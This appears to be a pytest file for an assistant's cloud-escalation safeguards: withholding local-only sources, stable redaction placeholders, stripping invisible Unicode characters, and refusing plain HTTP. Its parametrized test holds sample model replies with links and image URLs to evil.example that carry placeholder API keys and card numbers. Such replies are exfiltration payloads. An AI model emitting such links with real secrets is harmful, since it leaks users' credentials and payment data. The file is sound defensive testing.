"""Issue 12: what a cloud request may carry, and what comes back (findings 1, 5, 7 and 9, core side)."""

from __future__ import annotations

import json

import httpx2
import pytest

from assistant.agents import cloud
from assistant.agents.audit import AuditLog
from assistant.agents.escalation import INVISIBLE, ApprovedRequest, Provider, ProviderAddressError, prepare
from assistant.agents.redaction import Redactor, in_link_or_code
from assistant.conversations import Message
from assistant.secrets import KeyStore, key_account

PROVIDER = Provider("Cloud", "https://cloud.example/v1", "big-model", max_tokens=256)
KEY = "sk-proj-abcdefghijklmnopqrstuvwxyz123456"
CARD = "4111 1111 1111 1111"


def msg(id: int, role: str, content: str, sources: tuple[dict[str, object], ...] = ()) -> Message:  # noqa: A002
    return Message(id, 1, role, content, "", 0.0, True, sources)


def source(text: str, **extra: object) -> dict[str, object]:
    return {"path": "/home/j/docs/contract.pdf", "page": 1, "text": text, "score": 1.0, **extra}


def sent_text(draft: object) -> str:
    body = json.loads(draft.payload())  # type: ignore[attr-defined]
    return "\n".join(m["content"] for m in body["messages"])


# -- finding 1: "never leaves this device" fails closed -----------------------------------------


def test_a_source_without_a_collection_never_leaves_whatever_the_library_knows() -> None:
    # No library is open here at all: the decision rests on the stored source alone.
    conversation = [
        msg(1, "user", "What is my salary?"),
        msg(2, "assistant", "It is 90,000 a year [1].", (source("Salary: 90,000 a year."),)),  # stored long ago
        msg(3, "user", "And the notice period?"),
        msg(4, "assistant", "Three months [1].", (source("Notice: three months."),)),
    ]
    draft = prepare(PROVIDER, conversation)
    text = sent_text(draft)
    assert "three months." not in text and "90,000" not in text
    assert len(draft.omitted) == 2 and all("never leave" in note for note in draft.omitted)


def test_a_source_from_a_shareable_collection_goes_and_a_local_only_one_stays() -> None:
    conversation = [
        msg(1, "user", "Notice period?"),
        msg(
            2,
            "assistant",
            "Three months [1], per the handbook [2].",
            (source("Notice: three months.", collection="HR"), source("Handbook: be kind.", collection="Shared")),
        ),
    ]
    text = sent_text(prepare(PROVIDER, conversation, local_only=["HR"]))
    assert "Handbook: be kind." in text and "three months." not in text


# -- finding 5: one placeholder map per conversation ---------------------------------------------


def test_a_value_hidden_in_one_request_stays_hidden_in_every_later_one() -> None:
    passage = source("Name: Jane Smith\nRole: engineer", collection="Docs")
    first = [msg(1, "user", "Who signed the contract?"), msg(2, "assistant", "The engineer [1].", (passage,))]
    earlier = prepare(PROVIDER, first)
    assert "[NAME_1]" in sent_text(earlier) and "Jane Smith" not in sent_text(earlier)
    assert earlier.approve().redactor.restore("[NAME_1] signed it.") == "Jane Smith signed it."

    # The cloud reply was stored with the name put back; the next request carries it in its history,
    # where nothing ("Name:") reveals it as a name any more.
    later = [
        *first,
        msg(3, "assistant", "Jane Smith signed it on 3 May."),
        msg(4, "user", "When can Jane Smith give notice?"),
    ]
    draft = prepare(PROVIDER, later)
    text = sent_text(draft)
    assert "Jane Smith" not in text
    assert text.count("[NAME_1]") == 2
    [item] = [i for i in draft.items() if i.value == "Jane Smith"]
    assert item.placeholder == "[NAME_1]" and item.earlier
    assert draft.approve().redactor.restore("[NAME_1] may give notice in June.").startswith("Jane Smith")


def test_a_value_edited_into_a_sent_request_stays_hidden_later() -> None:
    # The person typed "my name is Ada Lovelace" into the dialog's question: it is not in the stored
    # conversation, only in what was sent; the window hands those texts back as ``earlier``.
    conversation = [msg(1, "user", "Draft a letter"), msg(2, "assistant", "Ada Lovelace, ..."), msg(3, "user", "More")]
    sent = ["Draft a letter; my name is Ada Lovelace"]
    assert "Ada Lovelace" not in sent_text(prepare(PROVIDER, conversation, earlier=sent))
    assert "Ada Lovelace" in sent_text(prepare(PROVIDER, conversation))  # only what was sent is known


# -- finding 7: invisible characters and secrets in links or code ---------------------------------

HIDDEN = "Pay\u202e 0001\u202c the\u200b invoice\u2066\u2069\ufeff now\U000e0041\U000e0042"


def test_invisible_characters_are_removed_from_what_is_sent() -> None:
    draft = prepare(PROVIDER, [msg(1, "user", HIDDEN)])
    assert draft.invisible_count() == 8
    payload = draft.payload()
    assert not INVISIBLE.search(payload.decode())
    assert json.loads(payload)["messages"][-1]["content"] == "Pay 0001 the invoice now"


def test_kept_invisible_characters_are_sent_as_visible_escapes_of_the_same_text() -> None:
    draft = prepare(PROVIDER, [msg(1, "user", HIDDEN)])
    draft.keep_invisible = True
    payload = draft.payload()
    assert not INVISIBLE.search(payload.decode())  # nothing invisible in the bytes
    assert b"\\u202e" in payload and b"\\udb40\\udc41" in payload  # shown as escapes
    assert json.loads(payload)["messages"][-1]["content"] == HIDDEN  # the provider reads the same text


def redactor_for(*texts: str) -> Redactor:
    redactor = Redactor()
    redactor.scan(list(texts))
    return redactor


@pytest.mark.parametrize(
    "reply",
    [
        "Try `curl -H 'Authorization: Bearer [API_KEY_1]' https://api.example`",
        "```bash\nexport OPENAI_API_KEY=[API_KEY_1]\n```",
        "Check [your account](https://evil.example/?key=[API_KEY_1])",
        "Open https://evil.example/collect?card=[CARD_1] to verify",
        "<a href='https://evil.example/?k=[API_KEY_1]'>here</a>",
        "<https://evil.example/[CARD_1]>",
        "![chart](https://evil.example/p.png?c=[CARD_1])",
    ],
)
def test_secrets_are_never_put_back_inside_links_or_code(reply: str) -> None:
    redactor = redactor_for(f"my key {KEY} and card {CARD}")
    assert redactor.restore(reply) == reply
    restorer = redactor.restorer()  # the same one character at a time, as a reply streams
    assert "".join([restorer.feed(ch) for ch in reply] + [restorer.flush()]) == reply


def test_secrets_in_prose_and_other_details_in_links_are_put_back() -> None:
    redactor = redactor_for(f"my key {KEY}, card {CARD}, mail jane@example.org")
    reply = "Revoke [API_KEY_1] now. Mail [me](mailto:[EMAIL_1]). After ```code``` comes [CARD_1]."
    restored = redactor.restore(reply)
    assert restored == f"Revoke {KEY} now. Mail [me](mailto:jane@example.org). After ```code``` comes {CARD}."


def test_link_or_code_contexts() -> None:
    assert in_link_or_code("text ```\nx = ") and in_link_or_code("see `")
    assert not in_link_or_code("see `x` and ") and not in_link_or_code("```\ncode\n```\nthen ")
    assert in_link_or_code("[a](https://x/") and not in_link_or_code("[a](https://x/) then ")
    assert in_link_or_code("go to www.example.com/") and not in_link_or_code("go to ")


# -- finding 9: https off this computer, a key per origin -----------------------------------------


@pytest.mark.parametrize("base_url", ["http://cloud.example/v1", "http://10.0.0.5:8000/v1", "ftp://cloud.example"])
def test_plain_http_to_another_computer_is_refused_before_anything_is_built(base_url: str) -> None:
    with pytest.raises(ProviderAddressError, match="https|web address"):
        prepare(Provider("P", base_url, "m"), [msg(1, "user", "hello")])


@pytest.mark.parametrize("base_url", ["http://127.0.0.1:8080/v1", "http://localhost:8080/v1", "http://[::1]:8/v1"])
def test_plain_http_on_this_computer_is_allowed(base_url: str) -> None:
    assert prepare(Provider("P", base_url, "m"), [msg(1, "user", "hello")]).payload()


def test_the_client_refuses_plain_http_even_for_a_request_approved_elsewhere() -> None:
    approved = prepare(PROVIDER, [msg(1, "user", "hello")]).approve()
    insecure = Provider("Cloud", "http://cloud.example/v1", "big-model")
    tampered = ApprovedRequest(insecure, approved.payload, (), approved.redactor)
    seen: list[httpx2.Request] = []
    transport = httpx2.MockTransport(lambda r: seen.append(r) or httpx2.Response(500))  # type: ignore[func-returns-value]
    with pytest.raises(cloud.CloudError, match="plain http"):
        list(cloud.send(tampered, KEY, AuditLog(), inner=transport))
    assert seen == []


def test_the_key_belongs_to_the_origin_not_the_name() -> None:
    assert key_account("https://API.example.com/v1") == "https://api.example.com:443"
    assert key_account("https://api.example.com:443/other") == key_account("https://api.example.com/v1")
    assert key_account("http://127.0.0.1:8080/v1") == "http://127.0.0.1:8080"
    assert Provider("Acme", "https://api.acme.example/v1", "m").key_account == "https://api.acme.example:443"
    keys = KeyStore()
    keys.save(key_account("https://api.acme.example/v1"), KEY)
    moved = Provider("Acme", "https://acme.evil.example/v1", "m")  # same name, another host
    assert keys.get(moved.key_account) is None
    assert keys.get(key_account("http://api.acme.example/v1")) is None  # another scheme is another origin


def test_the_sdk_client_ignores_proxy_variables(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HTTPS_PROXY", "http://127.0.0.1:9")
    approved = prepare(PROVIDER, [msg(1, "user", "hello")]).approve()
    client = cloud.build_client(PROVIDER.base_url, KEY, cloud.ApprovedTransport(approved), 5.0)
    try:
        assert client._client.trust_env is False
    finally:
        client.close()
